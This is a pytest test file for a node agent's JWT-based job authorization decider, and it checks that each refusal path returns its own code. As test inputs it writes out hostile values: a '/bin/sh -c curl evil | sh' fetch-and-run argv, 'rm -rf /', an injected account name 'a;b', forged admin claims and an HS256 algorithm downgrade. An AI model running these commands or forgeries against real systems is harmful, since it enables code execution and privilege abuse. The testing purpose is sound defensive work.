"""Every refusal path of the agent decision (a)-(f) has its own code, and the happy path passes."""

from __future__ import annotations

import base64
import json
import time
from typing import Any

import jwt
import pytest
from cryptography.hazmat.primitives.asymmetric import rsa

from agent_client.config import MappingConfig, MappingRule
from agent_client.decision import NodeDecider
from agent_client.journal import StartedJournal
from agent_client.trust_store import TrustStore
from tests.agent_client.conftest import (
    BOB_B,
    DEFAULT_TABLE,
    JOHN_JM,
    KEYS,
    NODE,
    OPS_B,
    OPS_JM,
    OWN,
    TRUSTED,
    UNTRUSTED,
    RealmKey,
    make_job,
    mint,
    policy,
    table,
)


def _verdicts(decision: object) -> dict[str, str]:
    return {step.step: step.verdict for step in decision.trace}  # type: ignore[attr-defined]


def test_allowed_job_passes_every_step_and_maps_the_account(decider: NodeDecider) -> None:
    job = make_job()
    decision = decider.decide(job, mint(job))
    assert decision.allowed, decision.explain()
    assert decision.code is None
    assert _verdicts(decision) == dict.fromkeys("abcdef", "pass")
    assert decision.account is not None and decision.account.name == "daemon"
    assert "mapping rule" in decision.account.via
    assert [s.as_document()["step"] for s in decision.trace] == list("abcdef")


def test_untrusted_realm_is_refused_at_step_a(decider: NodeDecider) -> None:
    job = make_job(realm=UNTRUSTED)
    decision = decider.decide(job, mint(job))
    assert (decision.allowed, decision.code) == (False, "realm.untrusted")
    assert _verdicts(decision) == {"a": "fail", **dict.fromkeys("bcdef", "skip")}


def test_key_of_another_realm_never_verifies_a_token_claiming_this_realm(decider: NodeDecider) -> None:
    # A token that claims jobmgr but is signed with cellB's (trusted, known) key and kid.
    job = make_job()
    decision = decider.decide(job, mint(job, signer=KEYS[OWN]))
    assert decision.code == "token.unknown_key"
    assert _verdicts(decision)["a"] == "pass" and _verdicts(decision)["b"] == "fail"


def test_same_kid_with_a_foreign_key_fails_the_signature(decider: NodeDecider) -> None:
    job = make_job()
    impostor = RealmKey(TRUSTED)
    token = jwt.encode(
        jwt.decode(mint(job), options={"verify_signature": False}),
        impostor.key,
        algorithm="ES256",
        headers={"kid": KEYS[TRUSTED].kid, "typ": "job+jwt"},
    )
    assert decider.decide(job, token).code == "token.signature"


def test_tampered_payload_fails_the_signature(decider: NodeDecider) -> None:
    job = make_job()
    header, payload, signature = mint(job).split(".")
    claims = json.loads(base64.urlsafe_b64decode(payload + "=="))
    claims["sub"] = "user:jobmgr/uid=admin,ou=people,dc=jobmgr,dc=example"
    forged = base64.urlsafe_b64encode(json.dumps(claims).encode()).rstrip(b"=").decode()
    assert decider.decide(job, f"{header}.{forged}.{signature}").code == "token.signature"


def test_wrong_typ_is_refused(decider: NodeDecider) -> None:
    job = make_job()
    assert decider.decide(job, mint(job, typ="at+jwt")).code == "token.type"


@pytest.mark.parametrize(
    ("claims", "code"),
    [
        ({"exp": -120}, "token.expired"),
        ({"nbf": 600}, "token.not_yet_valid"),
        ({"aud": "node2"}, "token.audience"),
        ({"job_id": "00000000-0000-0000-0000-000000000000"}, "token.job_mismatch"),
        ({"job_digest": "0" * 64}, "token.job_mismatch"),
        ({"jti": None}, "token.claims"),
    ],
)
def test_claim_refusals_have_their_own_codes(decider: NodeDecider, claims: dict[str, Any], code: str) -> None:
    # Dates are offsets from the test's own now: a suite may run long after collection.
    now = int(time.time())
    claims = {name: now + value if name in ("exp", "nbf") else value for name, value in claims.items()}
    job = make_job()
    decision = decider.decide(job, mint(job, **claims))
    assert decision.code == code
    assert _verdicts(decision)["b"] == "fail"


def test_expiry_within_leeway_is_accepted(decider: NodeDecider) -> None:
    job = make_job()
    assert decider.decide(job, mint(job, exp=int(time.time()) - 10)).allowed


def test_spec_edited_after_submission_is_a_digest_mismatch(decider: NodeDecider) -> None:
    job = make_job()
    token = mint(job)
    job["spec"]["argv"] = ["/bin/sh", "-c", "curl evil | sh"]
    decision = decider.decide(job, token)
    assert decision.code == "token.job_mismatch"
    assert "job_digest" in (decision.reason or "")


def test_job_for_another_node_is_refused(decider: NodeDecider) -> None:
    job = make_job()
    token = mint(job)
    job["node"] = "node2"
    assert decider.decide(job, token).code in {"token.job_mismatch", "token.audience"}


def test_replayed_jti_is_refused(decider: NodeDecider, journal: StartedJournal) -> None:
    job = make_job()
    token = mint(job)
    first = decider.decide(job, token)
    assert first.allowed and first.jti is not None
    assert journal.record(first.jti, job["id"], first.exp or 0)
    again = decider.decide(job, token)
    assert again.code == "token.replayed"
    assert not journal.record(first.jti, job["id"], first.exp or 0)


def test_revoked_jti_is_refused(trust: TrustStore) -> None:
    job = make_job()
    token = mint(job, jti="revoked-jti")
    decider = NodeDecider(policy(), trust, table(*DEFAULT_TABLE), revoked={"revoked-jti"})
    assert decider.decide(job, token).code == "token.revoked"


def test_groups_of_other_realms_are_dropped(trust: TrustStore) -> None:
    # jobmgr vouches for a cellB group; the table grants that group, but it must not count.
    job = make_job()
    token = mint(job, groups=[OPS_B], sub=JOHN_JM)
    decider = NodeDecider(policy(), trust, table((OPS_B, "operator")))
    decision = decider.decide(job, token)
    assert decision.code == "authz.denied"
    assert decision.principals is not None
    assert all(a.realm in ("", TRUSTED) for a in decision.principals.access_ids)
    assert "dropped 1 group" in decision.trace[2].detail


def test_unknown_job_type_is_refused(decider: NodeDecider) -> None:
    job = make_job(job_type="rm-rf")
    decision = decider.decide(job, mint(job))
    assert decision.code == "job.unknown_type"
    assert _verdicts(decision)["d"] == "fail"


def test_unknown_authgroup_is_refused(decider: NodeDecider) -> None:
    job = make_job({"authgroup": "nosuchgroup"})
    assert decider.decide(job, mint(job)).code == "job.unknown_authgroup"


def test_not_granted_is_authz_denied(trust: TrustStore) -> None:
    job = make_job(job_type="configure")  # operators are not configurators
    decision = NodeDecider(policy(), trust, table(*DEFAULT_TABLE)).decide(job, mint(job))
    assert decision.code == "authz.denied"
    assert _verdicts(decision) == {**dict.fromkeys("abcd", "pass"), "e": "fail", "f": "skip"}
    assert NODE in (decision.reason or "")


def test_deny_wins_over_a_group_grant(trust: TrustStore) -> None:
    job = make_job()
    rows = ((OPS_JM, "administrator"), (JOHN_JM, "operator", "deny"))
    decision = NodeDecider(policy(), trust, table(*rows)).decide(job, mint(job))
    assert decision.code == "authz.denied"
    assert "deny" in (decision.reason or "")


def test_authgroup_scope_grants_only_jobs_in_that_group(trust: TrustStore) -> None:
    rows = ((OPS_JM, "operator", "allow", "authgroup:payroll"),)
    decider = NodeDecider(policy(), trust, table(*rows))
    inside, outside = make_job({"authgroup": "payroll"}), make_job()
    assert decider.decide(inside, mint(inside)).allowed
    assert decider.decide(outside, mint(outside)).code == "authz.denied"


def test_all_authenticated_is_own_realm_only(trust: TrustStore) -> None:
    decider = NodeDecider(policy(), trust, table(("special:ALL_AUTHENTICATED", "operator")))
    own = make_job(realm=OWN)
    foreign = make_job()
    assert decider.decide(own, mint(own)).allowed
    assert decider.decide(foreign, mint(foreign)).code == "authz.denied"


def test_all_authenticated_in_trusted_realms_covers_trusted_realms(trust: TrustStore) -> None:
    decider = NodeDecider(policy(), trust, table(("special:ALL_AUTHENTICATED_IN_TRUSTED_REALMS", "operator")))
    foreign = make_job()
    assert decider.decide(foreign, mint(foreign, groups=[])).allowed


def test_everyone_applies_to_any_trusted_token(trust: TrustStore) -> None:
    decider = NodeDecider(policy(), trust, table(("special:EVERYONE", "monitor")))
    job = make_job(job_type="inventory")
    assert decider.decide(job, mint(job, groups=[])).allowed


def test_no_mapping_and_fallback_deny_is_map_no_account(trust: TrustStore) -> None:
    decider = NodeDecider(policy(mapping=MappingConfig()), trust, table(*DEFAULT_TABLE))
    job = make_job()
    decision = decider.decide(job, mint(job))
    assert decision.code == "map.no_account"
    assert _verdicts(decision)["f"] == "fail"


def test_root_is_refused_unless_allowed(trust: TrustStore) -> None:
    rules = (MappingRule("realm", TRUSTED, "root"),)
    job = make_job()
    refused = NodeDecider(policy(mapping=MappingConfig(rules=rules)), trust, table(*DEFAULT_TABLE))
    assert refused.decide(job, mint(job)).code == "map.root_refused"
    allowed = NodeDecider(policy(mapping=MappingConfig(rules=rules, allow_root=True)), trust, table(*DEFAULT_TABLE))
    decision = allowed.decide(job, mint(job))
    assert decision.allowed and decision.account is not None and decision.account.uid == 0


@pytest.mark.parametrize("name", ["0", "#-1", "-u", "root ", "a;b", "Bob", "a" * 33])
def test_bad_account_names_are_refused(trust: TrustStore, name: str) -> None:
    rules = (MappingRule("realm", TRUSTED, name),)
    decider = NodeDecider(policy(mapping=MappingConfig(rules=rules)), trust, table(*DEFAULT_TABLE))
    job = make_job()
    assert decider.decide(job, mint(job)).code == "map.bad_account"


def test_malformed_job_is_refused(decider: NodeDecider) -> None:
    job = make_job()
    token = mint(job)
    job["spec"]["argv"] = "rm -rf /"
    assert decider.decide(job, token).code == "agent.job_invalid"


def test_garbage_token_is_refused_not_raised(decider: NodeDecider) -> None:
    decision = decider.decide(make_job(), "not.a.token")
    assert decision.code == "token.malformed"
    assert not decision.allowed


def test_alg_none_and_hmac_are_refused(decider: NodeDecider) -> None:
    job = make_job()
    claims = jwt.decode(mint(job), options={"verify_signature": False})
    hs = jwt.encode(claims, "secret-secret-secret-secret-secret", algorithm="HS256", headers={"typ": "job+jwt"})
    assert decider.decide(job, hs).code == "token.algorithm"


def test_unexpected_error_fails_closed(trust: TrustStore) -> None:
    class Broken:
        def decide(self, *args: object, **kwargs: object) -> object:
            raise RuntimeError("boom")

    job = make_job()
    decision = NodeDecider(policy(), trust, Broken()).decide(job, mint(job))  # type: ignore[arg-type]
    assert (decision.allowed, decision.code) == (False, "agent.internal")
    # The failure is placed at the first step not yet recorded: (e), where the table was asked.
    assert _verdicts(decision) == {**dict.fromkeys("abcd", "pass"), "e": "fail", "f": "skip"}


def test_weak_rsa_key_in_bundle_is_skipped(tmp_path: object) -> None:
    from agent_client.trust_store import keys_from_jwks
    from realms.tokens.keys import public_jwk

    weak = rsa.generate_private_key(public_exponent=65537, key_size=1024).public_key()  # noqa: S505 - weak on purpose
    jwks = {"keys": [public_jwk(weak, "RS256"), KEYS[TRUSTED].jwk()]}
    keys = keys_from_jwks(TRUSTED, jwks, frozenset({"ES256", "RS256"}))
    assert list(keys) == [KEYS[TRUSTED].kid]


def test_explain_names_every_step(decider: NodeDecider) -> None:
    job = make_job()
    text = decider.decide(job, mint(job)).explain()
    for name in ("issuer trust", "token and job binding", "principals", "required role", "authorization"):
        assert name in text
    assert "verdict: run as daemon" in text


def test_own_realm_user_maps_by_equivalency(trust: TrustStore) -> None:
    daemon = "user:cellB/uid=daemon,ou=people,dc=cellb,dc=example"
    mapping = MappingConfig(equivalency=frozenset({OWN}), equivalency_min_uid=0)
    decider = NodeDecider(policy(mapping=mapping), trust, table((daemon, "operator"), (BOB_B, "operator")))
    job = make_job(realm=OWN)
    decision = decider.decide(job, mint(job, sub=daemon))
    assert decision.allowed and decision.account is not None
    assert (decision.account.name, decision.account.via) == ("daemon", "user equivalency in realm cellB")
    # uid=bob has no local account: equivalency does not apply and the fallback (deny) does.
    assert decider.decide(job, mint(job)).code == "map.no_account"


def test_equivalency_never_maps_to_system_accounts(trust: TrustStore) -> None:
    daemon = "user:cellB/uid=daemon,ou=people,dc=cellb,dc=example"  # local daemon has uid 1
    mapping = MappingConfig(equivalency=frozenset({OWN}), fallback="nobody")
    decider = NodeDecider(policy(mapping=mapping), trust, table((daemon, "operator")))
    job = make_job(realm=OWN)
    decision = decider.decide(job, mint(job, sub=daemon))
    assert decision.account is not None and decision.account.via == "fallback nobody"


def test_equivalency_with_a_numeric_uid_is_a_bad_account(trust: TrustStore) -> None:
    zero = "user:cellB/uid=0,ou=people,dc=cellb,dc=example"
    mapping = MappingConfig(equivalency=frozenset({OWN}))
    decider = NodeDecider(policy(mapping=mapping), trust, table((zero, "operator")))
    job = make_job(realm=OWN)
    assert decider.decide(job, mint(job, sub=zero)).code == "map.bad_account"
